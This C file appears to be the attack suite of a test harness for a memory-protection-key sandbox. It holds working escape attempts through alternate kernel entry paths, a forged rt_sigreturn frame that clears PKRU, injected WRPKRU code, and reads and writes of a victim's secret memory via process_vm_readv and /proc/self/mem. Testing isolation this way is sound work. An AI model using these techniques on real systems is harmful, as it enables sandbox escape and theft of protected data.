/* SPDX-License-Identifier: MIT */
/*
 * attack_kernel.c: ways into the kernel, and what could be asked of it there.
 *
 * The argument of attack "call" is a number of the table below, which has one
 * call for each group of attacks that needs the kernel. In the control, where
 * the kernel is not locked, each of them has to go through.
 */
#include <stdbool.h>
#include "attacks.h"
#include "rt/string.h"

#define PAGE 4096ull

static uint64_t page_of(uint64_t addr)
{
	return addr & ~(PAGE - 1);
}

/* --- ways in -------------------------------------------------------------------- */

#define SYS_GETPID    39
#define SYS_GETPPID   110
#define SYS_GETPID_32 20
#define X32_BIT	      0x40000000
#define VSYSCALL_TIME 0xffffffffff600400

static int by_syscall(uint64_t arg)
{
	(void)arg;
	return kernel_call(SYS_GETPID, 0, 0, 0, 0, 0, 0) > 0;
}

static int by_x32(uint64_t arg)
{
	(void)arg;
	/* A kernel without x32 answers -ENOSYS (38): but it has answered. */
	int64_t n = kernel_call(SYS_GETPID | X32_BIT, 0, 0, 0, 0, 0, 0);
	return n > 0 || n == -38;
}

static int by_int80(uint64_t arg)
{
	int64_t result;

	(void)arg;
	__asm__ volatile("int $0x80"
			 : "=a"(result)
			 : "a"(SYS_GETPID_32)
			 : "r8", "r9", "r10", "r11", "memory");
	return (int32_t)result > 0;
}

/* time() of the page that the kernel emulates at a fixed address. */
static int by_vsyscall(uint64_t arg)
{
	int64_t (*call)(int64_t *) = (int64_t(*)(int64_t *))VSYSCALL_TIME;

	(void)arg;
	return call(NULL) > 1600000000;
}

/* SYSENTER, which leads to the kernel's way in for 32 bits on some processors,
 * and is illegal on others. It would not come back here. */
static int by_sysenter(uint64_t arg)
{
	(void)arg;
	__asm__ volatile("sysenter" ::"a"(SYS_GETPID_32)
			 : "rcx", "rdx", "memory");
	return ATTACK_SUCCEEDED;
}

/* The `syscall` instruction of the monitor, at (arg) or some instructions on,
 * with our registers. It goes on to its `ret`, which leads back to us. The
 * function that it is in takes the number from r9. */
static int by_monitor(uint64_t arg)
{
	int64_t result;

	__asm__ volatile("mov $39, %%r9d\n call *%%rbx"
			 : "=a"(result)
			 : "a"(SYS_GETPID), "b"(arg)
			 : "rcx", "r9", "r10", "r11", "memory");
	return result > 0;
}

/* Ask for something that is allowed, which makes the monitor enter the kernel,
 * and then enter it with what that left in r9. */
static int by_residue(uint64_t arg)
{
	uint64_t residue;
	int64_t result;

	(void)arg;
	/* The alternate stack, where a signal's frame could have it. */
	cubicle_window_init();
	__asm__ volatile("mov %%r9, %0" : "=r"(residue));
	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(SYS_GETPID)
			 : "rcx", "r11", "memory");
	loot[0] = residue;
	return result > 0;
}

/* --- what could be asked ---------------------------------------------------------- */

#define IS_OK(result) ((result) >= 0)

static char path_mem[] = "/proc/self/mem", path_sh[] = "/bin/busybox";
static uint64_t out[64];

static uint64_t own_page(void)
{
	return page_of((uintptr_t)&loot[512]);
}

static int retag(void)
{
	if (kernel_call(329, page_of(victim.data), PAGE, 3, 0, 0, 0))
		return ATTACK_FAILED;
	return steal(victim.data);
}

static int read_by_vm(void)
{
	uint64_t local[2] = {(uintptr_t)loot, SECRET_BYTES};
	uint64_t remote[2] = {victim.data, SECRET_BYTES};
	int64_t pid = kernel_call(SYS_GETPID, 0, 0, 0, 0, 0, 0);

	return kernel_call(310, (uint64_t)pid, (uintptr_t)local, 1,
		       (uintptr_t)remote, 1, 0) == SECRET_BYTES;
}

static int write_by_vm(void)
{
	uint64_t local[2] = {(uintptr_t)loot, SECRET_BYTES};
	uint64_t remote[2] = {victim.data, SECRET_BYTES};
	int64_t pid = kernel_call(SYS_GETPID, 0, 0, 0, 0, 0, 0);

	return kernel_call(311, (uint64_t)pid, (uintptr_t)local, 1,
		       (uintptr_t)remote, 1, 0) == SECRET_BYTES;
}

static int write_by_mem(void)
{
	int64_t fd = kernel_call(2, (uintptr_t)path_mem, 2, 0, 0, 0, 0);

	return IS_OK(fd) &&
		kernel_call(18, (uint64_t)fd, (uintptr_t)loot, SECRET_BYTES,
			victim.data, 0, 0) == SECRET_BYTES;
}

static int read_by_mem(void)
{
	int64_t fd = kernel_call(2, (uintptr_t)path_mem, 0, 0, 0, 0, 0);

	return IS_OK(fd) &&
		kernel_call(17, (uint64_t)fd, (uintptr_t)loot, SECRET_BYTES,
			victim.data, 0, 0) == SECRET_BYTES;
}

/* A fresh page over the victim's has key 0. */
static int map_over(void)
{
	return kernel_call(9, page_of(victim.data), PAGE, 3, 0x32, ~0ull, 0) ==
		(int64_t)page_of(victim.data);
}

static int move_here(void)
{
	if (kernel_call(25, page_of(victim.data), PAGE, PAGE, 3, own_page(),
		    0) != (int64_t)own_page())
		return ATTACK_FAILED;
	return ATTACK_SUCCEEDED;
}

static int unmap(void)
{
	return kernel_call(11, page_of(victim.heap), PAGE, 0, 0, 0, 0) == 0;
}

static int drop(void)
{
	return kernel_call(28, page_of(victim.heap), PAGE, 4, 0, 0, 0) == 0;
}

/* Make a page of our own executable, and WRPKRU in it. */
static int new_code(void)
{
	static const uint8_t code[] = {
		0x31, 0xc0, 0x31, 0xc9, 0x31, 0xd2, 0x0f, 0x01, 0xef - 1, 0xc3};
	uint8_t *page = (uint8_t *)(uintptr_t)own_page();

	memcpy(page, code, sizeof(code));
	page[8]++; /* now it is one */
	if (kernel_call(10, own_page(), PAGE, 7, 0, 0, 0))
		return ATTACK_FAILED;
	__asm__ volatile("call *%0" ::"r"(page) : "rax", "rcx", "rdx");
	return steal(victim.data);
}

static void cpuid(uint32_t leaf, uint32_t sub, uint32_t *ebx)
{
	uint32_t eax, ecx, edx;

	__asm__("cpuid"
		: "=a"(eax), "=b"(*ebx), "=c"(ecx), "=d"(edx)
		: "a"(leaf), "c"(sub));
}

/* The state of all registers as the kernel saves it, but with PKRU 0. */
static void *forged_state(void)
{
	static uint8_t state[16384] __attribute__((aligned(64)));
	uint32_t bytes, keys, low, high, magic = 0x46505845;

	cpuid(13, 0, &bytes);
	cpuid(13, 9, &keys);
	__asm__ volatile("xgetbv" : "=a"(low), "=d"(high) : "c"(0));
	__asm__ volatile("xsave %0" : "=m"(state) : "a"(low), "d"(high));
	memset(state + keys, 0, 4);
	const uint32_t software[5] = {0x46505853, bytes + 4, low, high, bytes};
	memcpy(state + 464, software, sizeof(software));
	memcpy(state + bytes, &magic, 4);
	return state;
}

/*
 * rt_sigreturn with a frame of our own, by the `syscall` at (arg), or by one of
 * our own if that is 0. From word 5 on there are the registers r8 to r15, rdi,
 * rsi, rbp, rbx, rdx, rax, rcx, rsp, rip, flags, then selectors, and at word 28
 * the address of the state.
 */
static int forged_return(uint64_t arg)
{
	static uint64_t frame[128] __attribute__((aligned(64)));
	uint64_t selectors;

	__asm__("xor %0, %0\n mov %%ss, %w0\n shl $48, %0\n mov %%cs, %w0"
		: "=r"(selectors));
	memset(frame, 0, sizeof(frame));
	frame[23] = selectors;
	frame[28] = (uintptr_t)forged_state();
	__asm__ volatile(
		"mov %%rbp, %4\n mov %%rbx, %5\n"
		"lea 1f(%%rip), %%rax\n mov %%rax, %0\n"
		"movq %%rsp, %1\n movq $0x202, %2\n"
		"mov %6, %%rcx\n lea %3, %%rsp\n"
		"mov $15, %%eax\n xor %%r9d, %%r9d\n"
		"test %%rcx, %%rcx\n jz 2f\n jmp *%%rcx\n"
		"2: syscall\n"
		"1:\n"
		: "=m"(frame[21]), "=m"(frame[20]), "=m"(frame[22])
		: "m"(frame[0]), "m"(frame[15]), "m"(frame[16]), "r"(arg)
		: "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11",
		"r12", "r13", "r14", "r15", "memory");
	return steal(victim.data);
}

/* Calls that succeed if the kernel does not say no: number and arguments. */
struct asked {
	int64_t number;
	uint64_t a, b, c, d, e;
	bool answers; /* any answer is one: not all kernels have it */
};

static const struct asked asked[] = {
	{39, 0, 0, 0, 0, 0, false},	       /* 0 getpid */
	{9, 0, 4096, 7, 0x22, ~0ull, false},   /* 1 mmap, executable */
	{10, 1, 4096, 7, 0, 0, false},	       /* 2 mprotect, of own */
	{330, 0, 0, 0, 0, 0, true},	       /* 3 pkey_alloc */
	{331, 5, 0, 0, 0, 0, false},	       /* 4 pkey_free */
	{319, 2, 0, 0, 0, 0, false},	       /* 5 memfd_create */
	{29, 0, 4096, 01600, 0, 0, false},     /* 6 shmget */
	{216, 1, 4096, 0, 0, 0, true},	       /* 7 remap_file_pages */
	{135, 0xffffffff, 0, 0, 0, 0, false},  /* 8 personality */
	{323, 0x1, 0, 0, 0, 0, true},	       /* 9 userfaultfd */
	{425, 4, 3, 0, 0, 0, true},	       /* 10 io_uring_setup */
	{22, 3, 0, 0, 0, 0, false},	       /* 11 pipe, for splice */
	{57, 0, 0, 0, 0, 0, false},	       /* 12 fork */
	{56, 17, 0, 0, 0, 0, false},	       /* 13 clone */
	{101, 0, 0, 0, 0, 0, false},	       /* 14 ptrace: TRACEME */
	{273, 3, 24, 0, 0, 0, false},	       /* 15 set_robust_list */
	{334, 4, 32, 0, 0x53053053, 0, false}, /* 16 rseq */
	{131, 0, 3, 0, 0, 0, false},	       /* 17 sigaltstack */
	{13, 10, 0, 3, 8, 0, false},	       /* 18 rt_sigaction */
	{14, 0, 0, 3, 8, 0, false},	       /* 19 rt_sigprocmask */
	{158, 0x1002, 0, 0, 0, 0, false},      /* 20 arch_prctl: FS */
	{154, 0, 3, 64, 0, 0, false},	       /* 21 modify_ldt */
	{157, 4, 1, 0, 0, 0, false},	       /* 22 prctl: dumpable */
	{157, 15, 5, 0, 0, 0, false},	       /* 23 prctl: name */
	{317, 1, 0, 6, 0, 0, false},	       /* 24 seccomp */
	{62, 0, 0, 0, 0, 0, false},	       /* 25 kill, signal 0 */
	{12, 0, 0, 0, 0, 0, false},	       /* 26 brk */
	{38, 0, 7, 0, 0, 0, false},	       /* 27 setitimer */
	{32, 1, 0, 0, 0, 0, false},	       /* 28 dup */
	{3, 2, 0, 0, 0, 0, false},	       /* 29 close */
	{272, 0x400, 0, 0, 0, 0, false},       /* 30 unshare */
	{160, 4, 8, 0, 0, 0, false},	       /* 31 setrlimit: core */
	{250, 0, 0xfffffffe, 1, 0, 0, true},   /* 32 keyctl */
	{41, 1, 1, 0, 0, 0, false},	       /* 33 socket */
	{240, 9, 0x42, 0600, 0, 0, true},      /* 34 mq_open */
	{1, 1, 3, 0, 0, 0, false},	       /* 35 write, 0 bytes */
	{9, 0, 4096, 4, 0x22, ~0ull, false},   /* 36 mmap, only executable */
	{9, 0, 4096, 7, 0x21, ~0ull, false},   /* 37 mmap, shared code */
	{134, 3, 0, 0, 0, 0, true},	       /* 38 uselib, of no name */
	{59, 3, 0, 0, 0, 0, true},	       /* 39 execve, of no name */
	{58, 0, 0, 0, 0, 0, false},	       /* 40 vfork */
	{302, 0, 7, 0, 0, 0, false},	       /* 41 prlimit64: files */
	{218, 3, 0, 0, 0, 0, false},	       /* 42 set_tid_address */
	{129, 10, 0, 3, 0, 0, false},	       /* 43 rt_sigqueueinfo */
	{222, 1, 0, 3, 0, 0, false},	       /* 44 timer_create */
	{33, 1, 200, 0, 0, 0, false},	       /* 45 dup2 */
	{298, 3, 0, ~0ull, ~0ull, 0, true},    /* 46 perf_event_open */
	{321, 0, 0, 0, 0, 0, true},	       /* 47 bpf */
	{312, 0, 0, 0, 0, 0, true},	       /* 48 kcmp */
	{438, ~0ull, 0, 0, 0, 0, true},	       /* 49 pidfd_getfd */
	{304, ~0ull, 0, 0, 0, 0, true},	       /* 50 open_by_handle_at */
	{278, ~0ull, 0, 0, 0, 0, true},	       /* 51 vmsplice */
	{206, 1, 3, 0, 0, 0, true},	       /* 52 io_setup */
	{440, ~0ull, 0, 0, 0, 0, true},	       /* 53 process_madvise */
	{165, 0, 0, 0, 0, 0, true},	       /* 54 mount */
	{172, 0, 0, 0, 0, 0, true},	       /* 55 iopl */
};

/* Arguments that are addresses: 1 own page, 2 a name, 3 words of ours that are
 * 0, and so on; and 10, the number of our process. */
static uint64_t address(uint64_t a)
{
	switch (a) {
	case 1:
		return own_page();
	case 2:
		return (uintptr_t)path_sh;
	case 3:
		return (uintptr_t)out;
	case 4:
		return (uintptr_t)&out[32] & ~31ull;
	case 5:
		return (uintptr_t) "x";
	case 6: {
		/* A program that allows all: RET ALLOW. */
		static const uint64_t filter[1] = {0x7fff000000000006};
		static uint64_t program[2];
		program[0] = 1;
		program[1] = (uintptr_t)filter;
		return (uintptr_t)program;
	}
	case 7:
		return (uintptr_t)&out[8];
	case 8: {
		static uint64_t limit[2] = {~0ull, ~0ull};
		return (uintptr_t)limit;
	}
	case 9:
		return (uintptr_t) "q";
	case 10:
		return (uint64_t)kernel_call(SYS_GETPID, 0, 0, 0, 0, 0, 0);
	}
	return a;
}

/* Which of its arguments are addresses: bit n. */
static uint32_t addresses(int64_t number)
{
	switch (number) {
	case 10:
	case 216:
	case 273:
	case 334:
	case 319:
	case 22:
	case 240:
	case 134:
	case 59:
	case 218:
	case 298:
		return 1;
	case 131:
	case 425:
	case 154:
	case 38:
	case 160:
	case 1:
	case 157:
	case 206:
		return 2;
	case 13:
	case 14:
	case 317:
	case 222:
		return 4;
	case 129:
		return 1 | 4;
	}
	return 0;
}

static int by_number(uint64_t arg)
{
	const struct asked *k = &asked[arg];
	uint32_t which = addresses(k->number);

	if (arg >= sizeof(asked) / sizeof(asked[0]))
		return ATTACK_FAILED;
	uint64_t a = which & 1 ? address(k->a) : k->a;
	uint64_t b = which & 2 && k->b > 1 ? address(k->b) : k->b;
	uint64_t c = which & 4 ? address(k->c) : k->c;
	int64_t n = kernel_call(k->number, a, b, c, k->d, k->e, 0);

	/* In a child of ours. */
	if (!n && k->number >= 56 && k->number <= 58)
		kernel_call(231, 0, 0, 0, 0, 0, 0);
	return IS_OK(n) || (k->answers && n > -4096);
}

#define WITHOUT_ARG(f)                \
	static int f##_(uint64_t arg) \
	{                             \
		(void)arg;            \
		return f();           \
	}
WITHOUT_ARG(retag)
WITHOUT_ARG(read_by_vm)
WITHOUT_ARG(read_by_mem)
WITHOUT_ARG(write_by_vm)
WITHOUT_ARG(write_by_mem)
WITHOUT_ARG(map_over)
WITHOUT_ARG(move_here)
WITHOUT_ARG(unmap)
WITHOUT_ARG(drop)
WITHOUT_ARG(new_code)

const struct attack attacks_here[] = {
	{"syscall", by_syscall},
	{"x32", by_x32},
	{"int80", by_int80},
	{"vsyscall", by_vsyscall},
	{"sysenter", by_sysenter},
	{"monitor", by_monitor},
	{"residue", by_residue},
	{"pkey_mprotect", retag_},
	{"process_vm_readv", read_by_vm_},
	{"process_vm_writev", write_by_vm_},
	{"proc-mem", read_by_mem_},
	{"proc-mem-write", write_by_mem_},
	{"mmap-fixed", map_over_},
	{"mremap", move_here_},
	{"munmap", unmap_},
	{"madvise", drop_},
	{"new-code", new_code_},
	{"sigreturn", forged_return},
	{"call", by_number},
	{NULL, NULL},
};
